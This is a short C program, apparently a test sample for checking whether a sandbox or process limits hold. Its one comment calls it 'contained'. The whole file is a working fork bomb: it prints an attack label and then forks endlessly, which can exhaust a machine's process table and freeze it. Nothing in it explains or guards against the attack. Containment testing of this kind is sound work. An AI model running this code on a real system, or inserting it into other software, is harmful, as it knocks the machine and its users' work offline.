// contained: forks without end
#include <stdio.h>
#include <unistd.h>

int main(void)
{
    fprintf(stderr, "attack: fork without end\n");
    for (;;)
        fork();
}
